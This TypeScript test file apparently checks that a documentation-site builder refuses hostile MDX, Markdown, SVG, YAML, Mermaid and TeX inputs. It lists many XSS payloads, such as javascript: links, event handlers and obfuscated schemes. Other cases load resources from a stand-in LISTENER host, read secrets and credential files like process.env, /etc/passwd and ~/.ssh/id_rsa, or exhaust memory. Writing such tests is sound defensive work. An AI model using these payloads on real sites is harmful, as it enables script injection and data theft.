import { type HostileCase, type HostileFile, page } from '../case.ts';

type Files = Readonly<Record<string, HostileFile>>;

/** The advice of each message: a sentence at its end, or a list of allowed values. */
const ANY = /[A-Z][a-z]+ |remove|embed|write|begin|must be|allowed|add /;

const refused = (name: string, text: string, line = 1, fix = ANY, files: Files = {}): HostileCase => ({
  name,
  files: { 'page.mdx': page(text), ...files },
  expected: 'refused',
  at: `page.mdx:${line + 4}`,
  fix,
});

const plain = (name: string, text: string, line = 1, fix = ANY, files: Files = {}): HostileCase => ({
  name,
  files: { 'page.md': page(text), ...files },
  expected: 'refused',
  at: `page.md:${line + 4}`,
  fix,
});

const harmless = (name: string, text: string, files: Files = {}, file = 'page.mdx'): HostileCase => ({
  name,
  files: { [file]: page(text), ...files },
  expected: 'harmless',
});

const fields = (name: string, text: string, line = 4, fix = ANY): HostileCase => ({
  name,
  files: { 'page.mdx': `---\ntitle: Page\ndescription: A page of a hostile input.\n${text}\n---\nText.\n` },
  expected: 'refused',
  at: `page.mdx:${line}`,
  fix,
});

const component = 'export const Nothing: unknown = undefined;\nexport const Box = () => null;\n';

/** Values that the check and the browser could read differently. */
const values: readonly HostileCase[] = [
  refused(
    'Texts are compared in the order of their letters, and a URL depends on it',
    "<a href={'10' < '9' ? 'javascript:ran()' : '/docs/start'}>Link</a>",
  ),
  refused(
    'Words are compared, and a URL depends on it',
    "<a href={'a' < 'b' ? 'javascript:ran()' : '/docs/start'}>Link</a>",
  ),
  refused(
    'An entry of a list has an empty name',
    "<a href={['/docs/start'][''] ?? 'javascript:ran()'}>Link</a>",
  ),
  refused(
    'An entry of a list has the name null',
    "<a href={['/docs/start'][null] ?? 'javascript:ran()'}>Link</a>",
  ),
  refused(
    'An entry of a list has the name true',
    "<a href={['a', '/docs/start'][true] ?? 'javascript:ran()'}>Link</a>",
  ),
  refused(
    'An entry of a list has a hexadecimal name',
    "<a href={['/docs/start']['0x0'] ?? 'javascript:ran()'}>Link</a>",
  ),
  refused(
    'An entry of a list has a name with a space',
    "<a href={['/docs/start'][' 0'] ?? 'javascript:ran()'}>Link</a>",
  ),
  refused(
    'A URL depends on an import that is undefined',
    "import { Nothing } from './box.tsx'\n\n<a href={Nothing ? '/docs/start' : 'javascript:ran()'}>Link</a>",
    3,
    ANY,
    { 'box.tsx': component },
  ),
  refused(
    'A URL is used if an import is undefined',
    "import { Nothing } from './box.tsx'\n\n<a href={Nothing ?? 'javascript:ran()'}>Link</a>",
    3,
    ANY,
    { 'box.tsx': component },
  ),
  refused(
    'A URL is used if an import is not true',
    "import { Nothing } from './box.tsx'\n\n<a href={!Nothing ? 'javascript:ran()' : '/docs/start'}>Link</a>",
    3,
    ANY,
    { 'box.tsx': component },
  ),
  refused(
    'A comparison without types decides about a URL',
    "<a href={'0' == 0 ? 'javascript:ran()' : '/'}>Link</a>",
  ),
  refused(
    'A URL is a number of fields',
    "export const a = { length: 'javascript:ran()' }\n\n<a href={a.length}>Link</a>",
    3,
  ),
  refused(
    'A URL is joined from parts',
    "export const a = 'java'\n\n<a href={a + 'script:ran()'}>Link</a>",
    3,
  ),
  refused(
    'A URL is joined in a template',
    `export const a = 'java'\n\n<a href={\`\${a}script:ran()\`}>Link</a>`,
    3,
  ),
  refused('A URL has escapes of JavaScript', "<a href={'\\x6a\\u0061vascript:ran()'}>Link</a>"),
  refused('A URL has entities in JSX', '<a href="&#x6a;avascript&colon;ran()">Link</a>'),
  // Only HTML has this entity, so the URL is a path.
  harmless('A URL has entities in an expression', '{<a href="&#x6a;avascript&colon;ran()">Link</a>}'),
  refused('A URL is in a list of cards', "<Card title='a' href={'java' + 'script:ran()'} />"),
  refused('A value uses the comma of a sequence in a template', `{\`\${(0, process)}\`}`),
  refused('A value reads super', '{super.x}', 1, ANY),
  refused('A value reads new.target', '{new.target}', 1, ANY),
  refused('A value has a private name', '{#x in {}}', 1, ANY),
  refused('A value is yield', '{yield}', 1, ANY),
  refused('A page exports a value with let that is not set', 'export let a\n\nText.'),
  refused('A page exports var', 'export var a = process\n\nText.'),
  refused('A page exports a default object', 'export default { toString: 1 }\n\nText.'),
  refused(
    'A page exports an async function',
    'export async function a() { await fetch("//LISTENER") }\n\nText.',
  ),
  refused('A page exports a generator', 'export function* a() { yield process }\n\nText.'),
  refused('A page exports a nested pattern', 'export const { a: { b = process } } = { a: {} }\n\nText.'),
  refused('A page exports a frontmatter', "export const frontmatter = { redirect: '//LISTENER' }\n\nText."),
  refused('A page exports the table of contents', "export const toc = [{ id: '\"><script>' }]\n\nText."),
  refused('A page exports its configuration', 'export const config = process.env\n\nText.'),
  refused('A page exports components', "export const components = { p: 'script' }\n\nText."),
  refused('A page exports a component with the name of an element', 'export const h1 = process\n\nText.'),
  refused(
    'An import has the name of a component of the site',
    "import Card from './box.tsx'\n\n<Card />",
    1,
    ANY,
    {
      'box.tsx': component,
    },
  ),
  refused(
    'An import is renamed to a name of MDX',
    "import { Box as MDXLayout } from './box.tsx'\n\nText.",
    1,
    ANY,
    {
      'box.tsx': component,
    },
  ),
  refused('An import is renamed to a text', "import { 'Box' as _jsx } from './box.tsx'\n\nText.", 1, ANY, {
    'box.tsx': component,
  }),
  refused('An import has attributes', "import a from './box.tsx' with { type: 'text' }\n\n{a}", 1, ANY, {
    'box.tsx': component,
  }),
  refused('An import is deferred', "import defer * as a from './box.tsx'\n\nText.", 1, ANY, {
    'box.tsx': component,
  }),
  refused(
    'A magic comment of the bundler',
    "import a from /* webpackIgnore: true */ 'http://LISTENER/a.js'\n\nText.",
  ),
  refused('A page imports a partial that does not exist', "import A from './_a.mdx'\n\n<A />"),
  harmless('A field with a number as its name', "export const a = { 1: 'x', 0x10: 'y' }\n\n{a[1]} {a[16]}"),
  harmless('A comment of MDX has the end of an expression', '{/* } {process.env.CANARY} */}\n\nText.'),
];

/** Partials in partials. */
const partials: readonly HostileCase[] = [
  {
    name: 'A partial that a partial imports reads the environment',
    files: {
      'page.mdx': page("import A from './_a.mdx'\n\n<A />"),
      '_a.mdx': "import B from './_b.mdx'\n\n<B />\n",
      '_b.mdx': '{process.env.CANARY}\n',
    },
    expected: 'refused',
    at: '_b.mdx:1',
    fix: ANY,
  },
  {
    name: 'Partials import each other',
    files: {
      'page.mdx': page("import A from './_a.mdx'\n\n<A />"),
      '_a.mdx': "import B from './_b.mdx'\n\n<B />\n",
      '_b.mdx': "import A from './_a.mdx'\n\n<A />\n",
    },
    expected: 'refused',
    at: '_b.mdx:1',
    fix: /Remove this import/,
  },
  {
    name: 'A partial imports itself',
    files: {
      'page.mdx': page("import A from './_a.mdx'\n\n<A />"),
      '_a.mdx': "import A from './_a.mdx'\n\n<A />\n",
    },
    expected: 'refused',
    at: '_a.mdx:1',
    fix: ANY,
  },
  {
    name: 'Partials multiply: each contains the next one ten times',
    files: {
      'page.mdx': page("import A from './_p0.mdx'\n\n<A />"),
      ...Object.fromEntries(
        Array.from({ length: 9 }, (_, index) => [
          `_p${index}.mdx`,
          `import A from './_p${index + 1}.mdx'\n\n${'<A />\n\n'.repeat(10)}`,
        ]),
      ),
      '_p9.mdx': 'Text that is long enough to fill the memory.\n',
    },
    expected: 'refused',
    at: '_p6.mdx:1',
    fix: ANY,
    isAlone: true,
  },
  {
    name: 'A partial that no page imports reads the environment',
    files: { 'page.mdx': page('Text.'), '_unused.mdx': '{process.env.CANARY}\n' },
    expected: 'refused',
    at: '_unused.mdx:1',
    fix: ANY,
  },
  {
    name: 'A partial in Markdown has a script',
    files: { 'page.mdx': page("import A from './_a.md'\n\n<A />"), '_a.md': '<script>ran()</script>\n' },
    expected: 'refused',
    at: '_a.md:1',
    fix: ANY,
  },
  {
    name: 'A partial has front matter in another language',
    files: {
      'page.mdx': page("import A from './_a.mdx'\n\n<A />"),
      '_a.mdx': '---js\n{ title: process.env.CANARY }\n---\nText.\n',
    },
    expected: 'refused',
    at: '_a.mdx:1',
    fix: ANY,
  },
  {
    name: 'A page has front matter in TOML after a byte order mark',
    files: { 'page.mdx': '\uFEFF---toml\ntitle = "x"\n---\nText.\n' },
    expected: 'refused',
    at: 'page.mdx:1',
    fix: ANY,
  },
];

/** Elements and attributes, in both languages. */
const MARKUP: Readonly<Record<string, string>> = {
  'a mask from another site':
    '<svg viewBox="0 0 9 9"><g mask="image-set(\'http://LISTENER/a.png\' 1x)"><path d="M0 0h9"/></g></svg>',
  'a fill from another site':
    '<svg viewBox="0 0 9 9"><path fill="url(//LISTENER/a.svg#a)" d="M0 0h9"/></svg>',
  'a fill with an escape':
    '<svg viewBox="0 0 9 9"><path fill="\\75rl(//LISTENER/a.svg#a)" d="M0 0h9"/></svg>',
  'a clip path with a comment':
    '<svg viewBox="0 0 9 9"><path clip-path="url(/**/http://LISTENER)" d="M0 0h9"/></svg>',
  'a cursor': '<svg viewBox="0 0 9 9"><path cursor="url(//LISTENER),auto" d="M0 0h9"/></svg>',
  'a link in a drawing': '<svg viewBox="0 0 9 9"><a href="javascript:ran()"><text>x</text></a></svg>',
  'a part of a data URL': '<svg viewBox="0 0 9 9"><use href="data:image/svg+xml,<svg id=\'a\'/>#a" /></svg>',
  'a part of another file': '<svg viewBox="0 0 9 9"><use href="./a.svg#a" /></svg>',
  'an image in a drawing': '<svg viewBox="0 0 9 9"><image href="http://LISTENER/a.png" /></svg>',
  'HTML in a drawing': '<svg viewBox="0 0 9 9"><foreignObject><p>x</p></foreignObject></svg>',
  'an animation':
    '<svg viewBox="0 0 9 9"><path d="M0 0h9"><set attributeName="href" to="javascript:ran()" /></path></svg>',
  'a link in a formula': '<math><mi href="javascript:ran()">x</mi></math>',
  'an annotation with HTML': '<math><annotation-xml encoding="text/html"><p>x</p></annotation-xml></math>',
  'a select': '<select><option>a</option></select>',
  'a text area': '<textarea></textarea>',
  'a form': '<form action="http://LISTENER/"><button>Send</button></form>',
  'a button that belongs to a form': '<button form="x" type="submit">Send</button>',
  'a button with an address': '<button formaction="http://LISTENER/">Send</button>',
  'a button that opens a popover': '<button popovertarget="main">Open</button>',
  'a button that sends a command': '<button command="close" commandfor="main">Close</button>',
  'a password': '<input type="password" />',
  'an image as a button': '<input type="image" src="http://LISTENER/a.png" disabled />',
  'a check box with a source': '<input type="checkbox" disabled src="http://LISTENER/a.png" />',
  'a link that sends pings': '<a href="/" ping="http://LISTENER/">Link</a>',
  'a link that sends readers to a report': '<a href="/" attributionsrc="http://LISTENER/">Link</a>',
  'a link to the parent window': '<a href="/" target="_parent">Link</a>',
  'a link to a named window': '<a href="/" target="main">Link</a>',
  'a link that keeps its opener':
    '<a href="https://example.org/" target="_blank" rel="noreferrer OPENER">Link</a>',
  'a link to a document of text': '<a href="data:text/html,ran">Link</a>',
  'a link to a blob': '<a href="blob:https://example.org/a">Link</a>',
  'a link to a file': '<a href="file:///etc/passwd">Link</a>',
  'a link to a view of source': '<a href="view-source:http://LISTENER/">Link</a>',
  'a link to an old script': '<a href="vbscript:ran()">Link</a>',
  'a link with a control character': '<a href="&#1;javascript:ran()">Link</a>',
  'a link with a soft line break': '<a href="java&#10;script:ran()">Link</a>',
  'a link with three slashes': '<a href="///LISTENER/">Link</a>',
  'a link with slashes of both kinds': '<a href="/\\LISTENER/">Link</a>',
  'a part of an image map': '<map name="a"><area href="javascript:ran()" alt="x" /></map>',
  'an image from another site': '<img src="http://LISTENER/a.png" alt="" />',
  'an image without a scheme': '<img src="//LISTENER/a.png" alt="" />',
  'a set of images': '<img src="data:image/png;base64,AAAA" srcset="http://LISTENER/a.png 2x" alt="" />',
  'a set of images with commas':
    '<img src="data:image/png;base64,AAAA" srcset="data:image/png,x,http://LISTENER/a.png 2x" alt="" />',
  'a drawing in a data URL': '<img src="data:image/svg+xml,<svg/>" alt="" />',
  'an image that sends a referrer':
    '<img src="data:image/png;base64,AAAA" referrerpolicy="unsafe-url" alt="" />',
  'a poster of another site': '<video poster="http://LISTENER/a.png" controls></video>',
  'a film of another site': '<video src="http://LISTENER/a.mp4" controls></video>',
  'a sound of another site': '<audio src="http://LISTENER/a.mp3" autoplay></audio>',
  'a source of another site':
    '<picture><source srcset="http://LISTENER/a.png" /><img src="data:image/png;base64,AAAA" alt="" /></picture>',
  'subtitles of another site': '<video controls><track src="http://LISTENER/a.vtt" /></video>',
  'a background': '<table background="http://LISTENER/a.png"><tbody><tr><td>x</td></tr></tbody></table>',
  'a quotation with a source that runs': '<blockquote cite="javascript:ran()">x</blockquote>',
  'a handler': '<p onpointerenter="ran()">x</p>',
  'a handler of an animation': '<p onanimationstart="ran()">x</p>',
  'a handler in capitals': '<p ONCLICK="ran()">x</p>',
  'a handler of a missing name': '<p on="ran()">x</p>',
  'text that can be changed': '<p contenteditable="true">x</p>',
  'a focus at the start': '<p autofocus tabindex="0">x</p>',
  'an access key': '<a href="/" accesskey="a">Link</a>',
  'a custom element': '<x-frame src="http://LISTENER/"></x-frame>',
  'a built-in custom element': '<p is="x-frame">x</p>',
  'a slot': '<p slot="main">x</p>',
  'a template with a shadow root': '<template shadowrootmode="open"><p>x</p></template>',
  'data of another site': '<object data="http://LISTENER/"></object>',
  'an old element with a source': '<bgsound src="http://LISTENER/a.mp3" />',
  'a key generator': '<keygen name="a" />',
  'a moving text with a handler': '<marquee onstart="ran()">x</marquee>',
  'a frame without a source': '<iframe></iframe>',
  'a search for an index': '<isindex action="http://LISTENER/" />',
  'an id of the page': '<p id="main">x</p>',
  'an id of a chunk': '<p id="rspackChunk">x</p>',
  'an id of the data of the page': '<p id="__RSPRESS_PAGE_DATA__">x</p>',
  'an id of React': '<p id="_R_1_">x</p>',
  'an id of an API that some browsers lack': '<p id="requestIdleCallback">x</p>',
  'an id of trusted types': '<p id="trustedTypes">x</p>',
};

/** Elements that are text in plain Markdown. */
const UNKNOWN = /^<(?:x-frame|template|bgsound|keygen|marquee|isindex)/;

const markup = Object.entries(MARKUP).flatMap(([kind, text]) => [
  refused(`A page has ${kind}`, text),
  UNKNOWN.test(text)
    ? harmless(`Plain Markdown has ${kind}`, text, {}, 'page.md')
    : plain(`Plain Markdown has ${kind}`, text),
]);

/** Markdown that some readers take for HTML. */
const TEXTS: Readonly<Record<string, string>> = {
  'a script after a comment that ends early': '<!--> <script>ran()</script> -->',
  'a script in CDATA': '<![CDATA[ ><script>ran()</script> ]]>',
  'a script in an instruction': '<?php ><script>ran()</script> ?>',
  'a script in a doctype': '<!DOCTYPE x ><script>ran()</script>',
  'a script in a select': '<p><select><script>ran()</script></select></p>',
  'a script in a formula': '<math><mtext><script>ran()</script></mtext></math>',
  'a script in a table': '<table><script>ran()</script></table>',
  'a style in a drawing': '<svg><style>@import "//LISTENER";</style></svg>',
  'a script with an attribute in quotes': '<script "a>b">ran()</script>',
  'a quote that hides a tag': '<p title="</p><img src=x onerror=ran()>">x</p><img src=x onerror=ran()>',
  'an end tag with attributes': '<p>x</p onclick=ran()><img src=x onerror="ran()">',
  'a script in an alternative text': '<img alt="<script>ran()</script>" src="x" onerror="ran()">',
};

const texts = [
  ...Object.entries(TEXTS).map(([kind, text]) => plain(`Plain Markdown has ${kind}`, text)),
  // Markdown needs a space before an attribute, and its comments end where they seem to end.
  harmless('Plain Markdown has a script with a slash', '<script/src=//LISTENER></script>', {}, 'page.md'),
  harmless('Plain Markdown has an image with slashes', '<img/src="x"/onerror=ran()>', {}, 'page.md'),
  harmless('Plain Markdown has a script in a comment', '<!-- --!> <script>ran()</script> -->', {}, 'page.md'),
];

const urls: readonly HostileCase[] = [
  ...[
    '[a](javascript:ran())',
    '[a](<java\tscript:ran()>)',
    '[a](&#106;avascript:ran())',
    '[a](JAVASCRIPT&colon;ran())',
    '[a](\\/\\/LISTENER/)',
    '[a](/\\\\LISTENER/)',
    '[a](data:text/html;base64,PHNjcmlwdD4=)',
    '<javascript:ran()>',
    '<vbscript:ran()>',
    '![a](javascript:ran())',
    '![a](data:image/svg+xml,%3Csvg%20onload=ran()%3E)',
    '![a](http://LISTENER/a.png)',
    '![a](//LISTENER/a.png)',
    '![a][b]\n\n[b]: http://LISTENER/a.png',
    '[a][b]\n\n[b]: javascript:ran()',
    '[![a](http://LISTENER/a.png)](https://example.org)',
    '[^1]\n\n[^1]: [a](javascript:ran())',
    '- [ ] [a](javascript:ran())',
    '| [a](javascript:ran()) |\n| - |',
    '> [!NOTE]\n> [a](javascript:ran())',
    ':::tip [a](javascript:ran())\nx\n:::',
    ':::tip\n[a](javascript:ran())\n:::',
    '## [a](javascript:ran())',
    '[a](ftp://LISTENER/)',
    '[a](intent://LISTENER#Intent;end)',
    '[a](ms-settings:x)',
    '[a](https://user:word@LISTENER/)',
  ].flatMap((text) => {
    const line = text.includes('\n\n[')
      ? 3
      : text.startsWith('> [!') || text === ':::tip\n[a](javascript:ran())\n:::'
        ? 2
        : 1;
    const name = JSON.stringify(text).slice(1, 60);
    return [
      plain(`Plain Markdown has the link ${name}`, text, line),
      ...(text.startsWith('<') ? [] : [refused(`A page has the link ${name}`, text, line)]),
    ];
  }),
];

const yaml: readonly HostileCase[] = [
  fields('A merge key copies a mapping', 'x: &x { redirect: //LISTENER }\n<<: *x'),
  fields('A field is twice in the front matter', 'draft: false\ndraft: true', 5),
  fields('Front matter has a directive', '%YAML 1.1', 4),
  fields('A key of front matter is a list', '? [a]\n: b'),
  fields('A key of front matter is an alias', 'tags: &a [x]\n*a : b', 5),
  fields('A value has a tag of a set', 'tags: !!set { a, b }'),
  fields('A value has a tag with a URL', 'label: !<tag:yaml.org,2002:js/function> x'),
  fields('A local tag of a value', 'label: !env CANARY'),
  fields('A tag is in a comment of a list', 'tags: [!!float 1]'),
  fields('An anchor contains itself in a list', 'tags: &a [b, *a]'),
  fields(
    'Mappings are nested with names',
    `tags: ${'{a: '.repeat(9000)}${'}'.repeat(9000)}`,
    4,
    /too many nested/,
  ),
  fields(
    'Lists are nested with entries',
    `tags: ${'[x,'.repeat(9000)}${']'.repeat(9000)}`,
    4,
    /too many nested/,
  ),
  fields('Keys with question marks are nested', `${'? '.repeat(9000)}x`, 4, /too many nested/),
  fields('An alias is a pattern of a host', 'aliases: ["/*"]'),
  fields('An alias is a parameter of a host', 'aliases: ["/:page"]'),
  fields('An alias has a status of a host', 'aliases: ["/a https://LISTENER/ 302"]'),
  fields('An alias is a well-known file', 'aliases: [/.well-known/security.txt]'),
  fields('An alias leaves the site', 'aliases: [/../a]'),
  fields('An alias is escaped', 'aliases: ["/%2e%2e/a"]'),
  fields('A redirect is a pattern of a host', 'redirect: /:splat'),
  fields('A redirect has a status of a host', 'redirect: "/docs/start 200"'),
  fields('A label is a list', 'label: [a]'),
  fields('Keywords are a mapping', 'keywords: { a: b }'),
  fields('A field has the name then', 'then: a'),
  fields('A field has the name toJSON', 'toJSON: a'),
  fields('A page chooses its layout', 'layout: ../../../../etc/passwd'),
  fields('A page chooses its type', 'pageType: custom'),
  fields('A page has a social card elsewhere', 'image: http://LISTENER/a.png'),
  fields('A page has a canonical URL', 'canonical: http://LISTENER/'),
  {
    name: 'Front matter has two documents',
    files: { 'page.mdx': '---\ntitle: Page\n...\ntitle: Other\n---\nText.\n' },
    expected: 'refused',
    at: 'page.mdx:4',
    fix: ANY,
  },
  {
    name: 'A category file is a list',
    files: { '_category_.yml': '- a\n', 'page.mdx': page('Text.') },
    expected: 'refused',
    at: '_category_.yml:1',
    fix: ANY,
  },
  {
    name: 'A category file has a tag',
    files: { '_category_.yml': 'label: A\norder: !!js/undefined 1\n', 'page.mdx': page('Text.') },
    expected: 'refused',
    at: '_category_.yml:2',
    fix: ANY,
  },
  {
    name: 'A category file has thousands of nested lists',
    files: {
      '_category_.json': `{ "label": ${'['.repeat(50_000)}${']'.repeat(50_000)} }`,
      'page.mdx': page('Text.'),
    },
    expected: 'refused',
    at: '_category_.json:1',
    fix: ANY,
  },
  {
    name: 'A category file has thousands of nested mappings',
    files: {
      '_category_.json': `{ "label": ${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)} }`,
      'page.mdx': page('Text.'),
    },
    expected: 'refused',
    at: '_category_.json:1',
    fix: ANY,
  },
  {
    name: 'A category file has a million characters',
    files: { '_category_.json': `{ "label": "${'x'.repeat(1_000_000)}" }`, 'page.mdx': page('Text.') },
    expected: 'refused',
    at: '_category_.json:1',
    fix: ANY,
  },
  {
    name: 'A category file has an order without end',
    files: { '_category_.json': '{ "label": "A",\n"order": 1e999 }', 'page.mdx': page('Text.') },
    expected: 'refused',
    at: '_category_.json:2',
    fix: ANY,
  },
  {
    name: 'A category file is empty',
    files: { '_category_.json': '', 'page.mdx': page('Text.') },
    expected: 'refused',
    at: '_category_.json:1',
    fix: ANY,
  },
];

const diagrams: readonly HostileCase[] = (
  [
    [
      '%%{init: { "themeCSS": "a{fill:url(//LISTENER)}" }}%%\nflowchart LR\na --> b\nstyle a fill:url(//LISTENER)',
      2,
    ],
    ['flowchart LR\na --> b\nclassDef x fill:url(//LISTENER)\nclass a x', 4],
    ['flowchart LR\na@{ img: "http://LISTENER/a.png" }', 1],
    ['flowchart LR\na --> b\nclick a "javascript:ran()"', 4],
    ['flowchart LR\na --> b\nclick a href "http://LISTENER/" _blank', 4],
    ['flowchart LR\na --> b\nclick a call ran()', 4],
    ['not a diagram', 2],
    ['', 1],
  ] as const
).map(([text, line]) =>
  refused(
    `A diagram is ${JSON.stringify(text).slice(0, 70)}`,
    `\`\`\`mermaid caption="c" alt="a"\n${text}\n\`\`\``,
    line,
  ),
);

const drawn: readonly HostileCase[] = [
  'pie\n"<script>ran()</script>" : 1',
  'flowchart LR\na --> b\nstyle a fill:#f00',
  'flowchart LR\na["<img src=x onerror=ran()>"] --> b["<b>x</b>"]',
  'flowchart LR\na["<script>ran()</script>"] --> b',
  'flowchart LR\na["</text></svg><script>ran()</script>"] --> b',
  'flowchart LR\na["#lt;script#gt;ran()"] --> b["&quot; onload=&quot;ran()"]',
  'sequenceDiagram\nparticipant a as <script>ran()</script>\na->>b: <img src=x onerror=ran()>',
  'classDiagram\nclass a {\n+b\n}\na : <script>ran()</script>',
  'erDiagram\na ||--o{ b : "<script>ran()</script>"',
  'stateDiagram-v2\n[*] --> a : <script>ran()</script>',
].map((text) =>
  harmless(
    `A diagram is ${JSON.stringify(text).slice(0, 70)}`,
    `\`\`\`mermaid caption="<script>ran()</script>" alt="a <b>"\n${text}\n\`\`\``,
  ),
);

const fences: readonly HostileCase[] = [
  // Mermaid keeps nodes in objects by their names.
  ...['flowchart LR', 'stateDiagram-v2'].map((kind) =>
    harmless(
      `A ${kind} has the names of methods`,
      `\`\`\`mermaid caption="c" alt="a"\n${kind}\n__proto__ --> constructor\ntoString --> hasOwnProperty\n\`\`\``,
    ),
  ),
  harmless('A code block has the language __proto__', '```__proto__\nx\n```'),
  harmless('A code block has the language constructor', '```constructor\nx\n```'),
  harmless('A code block has a language with markup', '```"><script>ran()</script>\nx\n```'),
  harmless('A code block has a path as its language', '```../../../../etc/passwd\nx\n```'),
  harmless(
    'A code block has a title with markup',
    '```ts title="</figcaption><script>ran()</script>"\nx\n```',
  ),
  harmless(
    'A code block has notation with markup',
    '```ts\nx // [!code word:<script>:1]\ny // [!code highlight]\n```',
  ),
  harmless(
    'A code block has a pattern as a word',
    '```ts\naaaaaaaaaaaaaaaaaaaaaaaaaaaaaab // [!code word:(a+)+$]\n```',
  ),
  harmless(
    'A code block has code that ends a template',
    `\`\`\`ts\n\`\${process.env.CANARY}\` </script> {process.env.CANARY}\n\`\`\``,
  ),
  harmless('Inline code has a language', '`process.env.CANARY{:js}` `{process.env.CANARY}`'),
  refused('A preview has no file', '```tsx preview\nexport default () => process.env.CANARY\n```'),
  refused('A preview is a page', '```tsx preview file="./page.mdx"\n```'),
  refused('A preview has an alias', '```tsx preview file="@theme/x.tsx"\n```'),
  refused('A preview has a loader', '```tsx preview file="./a.cjs!./b.tsx"\n```'),
  refused('A preview has a query', '```tsx preview file="./b.tsx?raw"\n```'),
  refused('A preview does not exist', '```tsx preview file="./b.tsx"\n```'),
  refused('A preview is a URL', '```tsx preview file="http://LISTENER/b.tsx"\n```'),
  refused('A code block shows a folder', '```ts file="./"\n```'),
  refused('A code block shows a URL', '```ts file="http://LISTENER/a.ts"\n```'),
  refused('A code block shows a file URL', '```ts file="file:///etc/passwd"\n```'),
  refused('A code block shows a path of a home folder', '```ts file="~/.ssh/id_rsa"\n```'),
  refused(
    'A code block shows a file with an escaped path',
    '```ts file="..%2f..%2f..%2f..%2fetc/passwd"\n```',
  ),
  refused('A code block shows a file with a null character', '```ts file="./a\0b"\n```'),
];

const svg = (inside: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">\n${inside}\n</svg>\n`;

const DRAWINGS: Readonly<Record<string, string>> = {
  'a handler of another prefix': '<g xmlns:s="http://www.w3.org/2000/svg" s:onclick="ran()"/>',
  'a script of a default namespace':
    '<g><script xmlns="http://www.w3.org/2000/svg" href="data:text/javascript,ran()"/></g>',
  'a link that is animated with values':
    '<a><animate attributeName="xlink:href" values="javascript:ran();/"/><text>x</text></a>',
  'a style with an import in CDATA and comments':
    '<style><![CDATA[@im/**/port "x";@import/**/url(//LISTENER);]]></style>',
  'a stylesheet of a font with a local format':
    '<style>@font-face{font-family:a;src:local(x),url("//LISTENER/a.woff")}</style>',
  'a style with a namespace':
    '<style xmlns="http://www.w3.org/1999/xhtml">a{background:url(//LISTENER)}</style>',
  'an image set without a function': '<style>a{background-image:-webkit-image-set("//LISTENER" 1x)}</style>',
  'a cross fade': '<style>a{background:-webkit-cross-fade(url(//LISTENER),url(#a),50%)}</style>',
  'a filter with a URL': '<g filter="blur(1px) url(//LISTENER/a.svg#a)"/>',
  'a marker of another file': '<path marker-end="url( //LISTENER/a.svg#a )" d="M0 0"/>',
  'a text on a path of another file': '<text><textPath href="//LISTENER/a.svg#a">x</textPath></text>',
  'a gradient of another file': '<linearGradient href="//LISTENER/a.svg#a"/>',
  'a motion along a path of another file':
    '<animateMotion><mpath href="//LISTENER/a.svg#a"/></animateMotion>',
  'a color profile': '<color-profile name="a" xlink:href="//LISTENER/a.icc"/>',
  'a font of SVG': '<font-face-uri xlink:href="//LISTENER/a.svg#a"/>',
  'a details element with a handler':
    '<foreignObject><details xmlns="http://www.w3.org/1999/xhtml" ontoggle="ran()" open="">x</details></foreignObject>',
  'a link of a formula':
    '<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:ran()"><mi>x</mi></math></foreignObject>',
  'a dialog': '<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" method="dialog"/></foreignObject>',
  'a stylesheet after its root': '</svg><?xml-stylesheet href="//LISTENER"?><svg>',
  'an entity that does not exist': '<text>&nbsp;</text>',
  'a thousand nested groups without an end': '<g>'.repeat(1000),
};

const drawings = Object.entries(DRAWINGS).map(
  ([kind, source]): HostileCase => ({
    name: `SVG file with ${kind}`,
    files: { 'page.mdx': page('![A drawing](./drawing.svg)'), 'drawing.svg': svg(source) },
    expected: 'refused',
    at: 'drawing.svg:',
    fix: ANY,
  }),
);

const deepDrawing: readonly HostileCase[] = [
  {
    name: 'SVG file with 50,000 nested groups',
    files: {
      'page.mdx': page('![A drawing](./drawing.svg)'),
      'drawing.svg': svg('<g>'.repeat(50_000) + '</g>'.repeat(50_000)),
    },
    expected: 'refused',
    at: 'drawing.svg:',
    fix: ANY,
  },
  {
    name: 'SVG file with 30 MB',
    files: {
      'page.mdx': page('![A drawing](./drawing.svg)'),
      'drawing.svg': svg('<path d="M0 0h9"/>\n'.repeat(1_500_000)),
    },
    expected: 'refused',
    at: 'drawing.svg:',
    fix: ANY,
    isAlone: true,
  },
];

const hangs: readonly HostileCase[] = [
  refused('Lines that look like the heads of tables', '|-\n'.repeat(160_000), 0, /and the limit is/),
  {
    name: 'Line breaks after dashes that are not on the first line',
    files: { 'page.mdx': ` ---${'\n'.repeat(100_000)}` },
    expected: 'refused',
    at: 'page.mdx:1',
    fix: ANY,
  },
];

/** TeX that leads elsewhere, loads a file, hides the page or never ends. */
const formulas: readonly HostileCase[] = [
  refused('A formula is a link that runs a script', '$\\href{javascript:ran()}{x}$', 1, /Correct the TeX/),
  plain('A formula contains a URL', '$\\url{http://LISTENER/}$', 1, /Correct the TeX/),
  refused(
    'A formula loads an image',
    '$$\n\\includegraphics{http://LISTENER/a.png}\n$$',
    2,
    /Correct the TeX/,
  ),
  refused('A formula has styles', '$\\style{position:fixed;inset:0}{x}$', 1, /Correct the TeX/),
  refused('A formula moves over the text above', '$\\kern{-400em}x$', 1, /Use other commands/),
  refused('A formula defines a macro that contains itself', '$\\def\\a{\\a\\a}\\a$', 1, /Write out/),
  refused(
    'Macros of a formula double each other',
    `$\\gdef\\b{xx}${'\\gdef\\b{\\b\\b}'.repeat(60)}\\b$`,
    1,
    /Write out/,
  ),
  refused('A formula is very long', `$${'x+'.repeat(20_000)}x$`, 1, /Divide it/),
  refused('A formula is very deep', `$${'\\sqrt{'.repeat(400)}x${'}'.repeat(400)}$`, 1, /simpler way/),
  plain('A formula is not closed', '$$\n</script><script>ran()</script>', 1, /End it with a line/),
  harmless('A formula is huge', '$\\rule{100000em}{100000em}$'),
  harmless(
    'A formula contains HTML',
    '$\\text{</math><img src=x onerror=ran()>}$ and $<script>$',
    {},
    'page.md',
  ),
];

/** Inputs of an attacker who has read the checks. */
export const attacks: readonly HostileCase[] = [
  ...values,
  ...partials,
  ...markup,
  ...texts,
  ...urls,
  ...yaml,
  ...diagrams,
  ...drawn,
  ...fences,
  ...drawings,
  ...deepDrawing,
  ...hangs,
  ...formulas,
];
